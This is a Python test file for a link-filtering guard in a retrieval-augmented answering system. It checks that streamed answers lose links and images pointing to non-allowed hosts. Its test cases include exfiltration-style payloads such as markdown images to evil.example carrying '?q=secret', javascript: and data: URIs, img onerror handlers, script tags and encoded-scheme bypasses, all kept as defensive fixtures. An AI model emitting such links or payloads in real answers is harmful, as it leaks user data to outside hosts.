from __future__ import annotations

from urllib.parse import urlsplit

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from markdown_it import MarkdownIt
from selectolax.lexbor import LexborHTMLParser

from konverze_rag.answering.link_guard import LINK_REMOVED, LinkGuard

SOURCES = ("See https://shop.example/form?a=1 or write to help@shop.example, call +91 98200 12345.",)
HOSTS = ("shop.example", "*.cdn.example")


def guarded(answer: str, *, size: int = 1, hosts: tuple[str, ...] = HOSTS) -> str:
    guard = LinkGuard(hosts, SOURCES)
    pieces = [answer[place : place + size] for place in range(0, len(answer), size)]
    return "".join([*map(guard.feed, pieces), guard.finish()])


UNHARMED = [
    "Refunds take 7 days [1]. See [2][3] and [note].",
    "The [note]: the second",
    "Is 3 < 5, 2<3? Is 5 > 3? Yes/no, and/or, 1/2. C:\\dir, a & b, AT&T; R&D &amp; &#8377;5",
    "See [the form](https://shop.example/form) and ![it](https://img.cdn.example/a.png).",
    "https://shop.example/anything?x=1 and more",
    "See https://shop.example/form?a=1.",
    "```html\n<img src='https://evil.example/x'>\n[a](https://evil.example)\n```\nDone",
    "h, ht, http, https and www are words; // is a comment",
    "हिन्दी में उत्तर: 7 दिन [1]।",
]


@pytest.mark.parametrize("answer", UNHARMED)
@pytest.mark.parametrize("size", [1, 3, 1000])
def test_what_leads_nowhere_or_where_it_may_passes(answer: str, size: int) -> None:
    guard = LinkGuard(HOSTS, ())
    known = LinkGuard(HOSTS, SOURCES)
    text = "".join([known.feed(answer[place : place + size]) for place in range(0, len(answer), size)]) + known.finish()
    assert text == answer
    if "form?a=1" not in answer:
        assert guard.feed(answer) + guard.finish() == answer


STOPPED = [
    ("![x](https://evil.example/?q=secret)", "![x]"),
    ("[form](https://evil.example/a_(b)?q=secret) now", "[form] now"),
    ("[form](https://shop.example.evil.example/)", "[form]"),
    ("[form](https://shop.example@evil.example/)", "[form]"),
    ("[form](https://evil.example\\@shop.example/)", "[form]"),
    ("[form](https://shop.example)", "[form](https://shop.example)"),
    ("[form](<https://shop.example/a b> 'title')", "[form](<https://shop.example/a b> 'title')"),
    ("[form](javascript:alert(1))", "[form]"),
    ("[form](data:text/html;base64,AAAA)", "[form]"),
    ("![x](/logout)", "![x]"),
    ("[x](//evil.example/a)", "[x]"),
    ("[x](https&#58;//evil.example)", "[x]"),
    ("[x](https:\\/\\/evil.example)", "[x]"),
    ("[x][r]\n\n[r]: https://evil.example 'a'", f"[x][r]\n\n[r] : {LINK_REMOVED} 'a'"),
    ("[r]: https&colon;&sol;/evil.example", f"[r] : {LINK_REMOVED}"),
    ("[r]: //evil.example", f"[r] : {LINK_REMOVED}"),
    ("[r]:\n//evil.example", f"[r] :\n{LINK_REMOVED}"),
    ("[![x](https://evil.example/1)](https://evil.example/2)", "[![x]]"),
    ("[x](\nhttps://evil.example)", f"[x] (\n{LINK_REMOVED})"),
    ("Go to https://evil.example/?q=secret, now.", f"Go to {LINK_REMOVED}, now."),
    ("https:/&#47;evil.example", LINK_REMOVED),
    ("Go to www.evil.example.", f"Go to {LINK_REMOVED}."),
    ("Go to ftp://evil.example", f"Go to ftp:{LINK_REMOVED}"),
    ("Go to //evil.example/x", f"Go to {LINK_REMOVED}"),
    ("<https://evil.example/x>", LINK_REMOVED),
    ("<mailto:spy@evil.example>", LINK_REMOVED),
    ("<img src=https://evil.example/x>", " "),
    ("<img src='https://evil.example/>' onerror=\"a()\">.", " ."),
    ("<<b>img src=/x>", "< img src=/x>"),
    ("<img src=</a>x>", "< img src= x>"),
    ("[x]<b>(/logout)", "[x] (/logout)"),
    ("<img\nsrc=https://evil.example/x>", f"< img\nsrc={LINK_REMOVED}>"),
    ("<img/src=//evil.example/x>", " "),
    ("a<br/>b<script>alert(1)</script>c<!-- d -->e", "a b alert(1) c e"),
    ("<img src=//evil.example", f"< img src={LINK_REMOVED}"),
    ("` ![x](https://evil.example)", "` ![x]"),
    ("```a```\n![x](https://evil.example)", "```a```\n![x]"),
    ("````\n```\n````\n![x](https://evil.example)", "````\n```\n````\n![x]"),
    ("[x](https://shop.example/form?a=1)", "[x](https://shop.example/form?a=1)"),
    ("[1]: the first", "[1] : the first"),
    ("x <y and z, a<b", "x < y and z, a< b"),
    ("> [r]: mailto:spy@evil.example", "> [r] : mailto:spy@evil.example"),
    ("1. - [r]: evil.example/p", "1. - [r] : evil.example/p"),
    ("[a\\]b]: evil.example/p", "[a\\]b] : evil.example/p"),
    ("[a\nb]: evil.example/p", "[a\nb] : evil.example/p"),
    ("[a\n[b\n\n[c]: /p", "[a\n[b\n\n[c] : /p"),
    ("[x](https://evil.example)(javascript:a())", "[x]"),
    ("[x](/a)(/b)(https://shop.example) [x](/a)(b", "[x](https://shop.example) [x] (b"),
    ("[x](/a): /p", "[x] : /p"),
    ("[x](/a)&colon; /p", "[x] : /p"),
    ("- a\n  ```\n[x](https://evil.example)", "- a\n  ```\n[x]"),
    (" ```\na\n```\n[x](/p)", " ```\na\n```\n[x]"),
    ("~~~\n```\n~~~\n[x](/p)", "~~~\n```\n~~~\n[x]"),
    ("<b>```\na\n```\n[x](/p)", " ```\na\n```\n[x]"),
    ("```\na\n```\r[x](/p)", "```\na\n```[x](/p)"),
    ("```\na\n```\u00a0\n```\n[x](/p)", "```\na\n```\u00a0\n```\n[x]"),
    ("\\&sol;/evil.example", LINK_REMOVED),
]


@pytest.mark.parametrize(("answer", "text"), STOPPED)
@pytest.mark.parametrize("size", [1, 2, 7, 10_000])
def test_what_leads_to_strangers_is_stopped(answer: str, text: str, size: int) -> None:
    assert guarded(answer, size=size) == text


def test_what_never_ends_is_not_waited_for() -> None:
    assert "evil.example" not in guarded(f"[x](https://evil.example/{'y' * 5_000}")
    assert guarded("<a " + "b " * 5_000) == "< a " + "b " * 5_000
    guard = LinkGuard(HOSTS, SOURCES)
    assert len(guard.feed("[x](" + "y " * 5_000)) > 9_000


def test_an_address_of_a_source_stays_as_plain_text() -> None:
    known = "[form](https://shop.example/form?a=1) [write](mailto:help@shop.example) [me](mailto:spy@evil.example)"
    assert guarded(known, hosts=()) == "[form] (https://shop.example/form?a=1) [write] (mailto:help@shop.example) [me]"
    assert guarded("https://shop.example/form?a=1&q=secret", hosts=()) == LINK_REMOVED
    assert guarded("![x](https://shop.example/form?a=1)", hosts=()) == "![x] (https://shop.example/form?a=1)"


def test_all_hosts_may_be_allowed() -> None:
    assert guarded("[x](https://any.example) [y](javascript:a())", hosts=("*",)) == "[x](https://any.example) [y]"
    assert guarded("[x](https://CDN.example) [y](https://a.CDN.example)") == "[x] [y](https://a.CDN.example)"


def test_words_flow_at_once() -> None:
    guard = LinkGuard(HOSTS, SOURCES)
    assert guard.feed("Refunds take 7 days") == "Refunds take 7 days"
    assert guard.feed(": 7 (seven), or 5/7") == ": 7 (seven), or 5/7"


@given(st.text("ab[]()<>/:\\&#;47!`\n hwtps.@", max_size=60), st.integers(1, 5))
def test_pieces_make_no_difference(answer: str, size: int) -> None:
    assert guarded(answer, size=size) == guarded(answer, size=1_000)


_WORDS = """
``` ~~~ &#58; &#x2F; &sol; &colon; &lt; &amp; & - 1. https: // https:// www. evil.example/p shop.example ?q=1 img src
href <img src= <a href= <!-- --> <b> <br> </a> <? ?> [x]( ![x]( [x]: [x] ]( ]: javascript: data: //evil.example
<https://evil.example>
"""
_LINES = ("\n", "\n\n", "\r", "    ", "> ", "- ", "1. ", "\n```\n", "\n  ```\n", "\n~~~\n", "[x](/p)", "[a\nb]:", "\\]")
FRAGMENTS = (*"[]()<>!:/\\`'\"=#|.*@\t ax", *_WORDS.split(), "<a href=", *_LINES)


def _rendered_addresses(answer: str) -> list[str]:
    page = LexborHTMLParser(MarkdownIt("commonmark", {"html": True}).render(answer))
    nodes = page.css("[href], [src], [srcset], [action], [style], [onerror], [onload]")
    return [value or "" for node in nodes for value in node.attributes.values()]


@settings(max_examples=1_000)
@given(st.lists(st.sampled_from(FRAGMENTS), max_size=14).map("".join), st.integers(1, 9))
def test_no_rendered_page_leads_to_a_stranger(answer: str, size: int) -> None:
    for address in _rendered_addresses(guarded(answer, size=size)):
        assert urlsplit(address).hostname == "shop.example", address
